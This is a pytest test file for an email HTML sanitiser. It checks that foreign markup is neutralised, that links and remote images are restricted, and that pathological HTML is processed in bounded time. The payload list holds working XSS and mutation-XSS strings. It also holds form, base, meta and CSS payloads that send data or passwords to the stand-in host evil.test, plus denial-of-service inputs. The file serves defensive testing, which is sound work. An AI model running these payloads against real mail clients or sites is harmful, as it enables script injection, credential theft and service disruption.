"""Foreign HTML at render time."""

import re
import time

import pytest

from opora.engine.mail import sanitise

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<form action=//evil.test><input name=password><button formaction=//evil.test>go</button></form>",
    "<base href=//evil.test><meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<details open ontoggle=alert(1)>x</details>",
    '<div style="position:fixed;inset:0;background:#fff url(//evil.test)">x</div>',
    "<style>*{background:url(//evil.test/t)}</style>",
    "<!--[if mso]><img src=//evil.test><![endif]-->",
    '<p style="width:expression(alert(1));color:red">x</p>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
]
LIVE = re.compile(
    r"<(script|iframe|form|input|base|meta|link|style|svg|math|object)|\son\w+=|javascript:|evil\.test|position|url\(",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_live_passes(payload: str) -> None:
    shown = sanitise(f"<p>before</p>{payload}<p>after</p>", remote_images=True)
    bare = re.sub(r'title="[^"]*"|&lt;.*?&gt;', "", shown)
    assert not LIVE.search(bare)
    assert "before" in shown


def test_links_leave_without_referrer() -> None:
    shown = sanitise(
        '<a href="https://x.test/a" id=csrf name=body>x</a><a href="/logout">y</a><a href="//z.test">z</a>'
    )
    assert 'rel="noopener noreferrer nofollow"' in shown
    assert "https://x.test/a" in shown
    assert "logout" not in shown
    assert "z.test" not in shown
    assert "id=" not in shown


def test_pictures_from_elsewhere_wait_for_consent() -> None:
    html = '<img src="https://x.test/1.png"><img src="/logout"><img src="//x.test/2"><img src="cid:a@b">'
    assert "src" not in sanitise(html)
    shown = sanitise(html, remote_images=True)
    assert shown.count("src=") == 1
    assert "https://x.test/1.png" in shown


def test_inline_pictures_get_our_address() -> None:
    assert 'src="/files/1"' in sanitise('<img src="cid:a@b">', cids={"a@b": "/files/1"})
    assert 'src="/files/a@b"' in sanitise('<img src="cid:a%40b">', cids=lambda cid: f"/files/{cid}")
    assert "src" not in sanitise('<img src="cid:unknown">', cids={})


def test_harmless_style_stays() -> None:
    assert 'style="color:red"' in sanitise('<p style="color:red;display:none;z-index:9">x</p>').replace(": ", ":")


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 200_000,
        "<a " + " ".join(f"a{number}" for number in range(150_000)) + ">x",
        "".join(f"<font size={number}>" for number in range(20_000)) + "<p>x" * 50_000,
        "<span><div></span></div>" * 40_000,
        "<b><p></b>" * 90_000,
        "<" * 1_000_000,
        "<td><svg>" * 100_000,
    ],
)
def test_costly_html_is_shown_in_bounded_time(html: str) -> None:
    start = time.process_time()
    sanitise(html)
    assert time.process_time() - start < 5
